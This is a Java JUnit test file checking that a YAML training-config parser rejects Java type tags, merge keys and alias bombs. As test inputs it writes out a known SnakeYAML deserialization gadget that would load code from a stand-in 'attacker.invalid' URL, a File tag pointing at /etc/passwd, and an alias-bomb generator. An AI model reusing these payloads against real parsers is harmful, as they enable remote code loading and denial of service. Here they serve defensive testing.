package dev.temper.cli.config;

import static dev.temper.cli.config.ConfigErrors.assertError;
import static dev.temper.cli.config.ConfigErrors.parse;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

/** A run file may come from anywhere: it must never make the parser build a Java object. */
class TrainConfigParserSafetyTest {

    /** Counts its constructions; a tag naming it must leave the count at zero. */
    public static final class Probe {
        static final AtomicInteger CONSTRUCTED = new AtomicInteger();

        public Probe() {
            CONSTRUCTED.incrementAndGet();
        }

        public Probe(String ignored) {
            CONSTRUCTED.incrementAndGet();
        }
    }

    @Test
    void javaTagsAreRefusedAndConstructNothing() {
        String probe = Probe.class.getName();
        assertError("seed: !!" + probe + " {}\n", 1, "tag !!" + probe + " is not allowed");
        assertError("epochs: 3\nloss: !!" + probe + " [x]\n", 2, "is not allowed");
        assertError("optimizer:\n  name: !!" + probe + " adam\n", 2, "is not allowed");
        assertEquals(0, Probe.CONSTRUCTED.get());
    }

    @Test
    void theScriptEngineGadgetIsRefused() {
        String gadget = """
                seed: 1
                model: !!javax.script.ScriptEngineManager [
                  !!java.net.URLClassLoader [[
                    !!java.net.URL ["http://attacker.invalid/"]
                  ]]
                ]
                """;
        assertError(gadget, 2, "tag !!javax.script.ScriptEngineManager is not allowed");
        assertError("data:\n  train_images: !!java.io.File /etc/passwd\n", 2, "tag !!java.io.File is not allowed");
    }

    @Test
    void tagsUnderUnknownKeysAreRefusedToo() {
        // The tag check runs over the whole tree before any key is read.
        assertError("epochs: 1\nextra: {a: !!java.io.File x}\n", 2, "tag !!java.io.File is not allowed");
    }

    @Test
    void localAndExoticStandardTagsAreRefused() {
        assertError("seed: !custom 3\n", 1, "tag !custom is not allowed");
        assertError("loss: !!binary bXNl\n", 1, "tag !!binary is not allowed");
        assertError("data: !!set {a, b}\n", 1, "tag !!set is not allowed");
    }

    @Test
    void plainStandardTagsAreAccepted() {
        assertEquals(4, parse("epochs: !!int \"4\"\nloss: !!str mse\n").epochs());
        assertError("epochs: !!int four\n", 1, "'epochs' must be an integer >= 1, got four");
    }

    @Test
    void mergeKeysAreRefused() {
        assertError("base: &b {epochs: 2}\n<<: *b\n", 2, "merge keys (<<) are not supported");
        assertError("optimizer:\n  <<: {name: sgd}\n", 2, "merge keys (<<) are not supported");
    }

    @Test
    void selfReferencingAliasesEndInAnError() {
        assertError("model:\n  layers: &l [*l]\n", 2, "a layer is a name such as 'relu'", "got a list");
    }

    @Test
    void aliasBombsStopAtSnakeYamlsLimit() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 30; i++) {
            String previous = "*a" + (i - 1);
            yaml.append("a").append(i).append(": &a").append(i).append(" [")
                    .append((previous + ", ").repeat(9)).append(previous).append("]\n");
        }
        ConfigException error = assertThrows(ConfigException.class, () -> parse(yaml.toString()));
        assertEquals(-1, error.getMessage().indexOf('\n'), error.getMessage());
    }
}
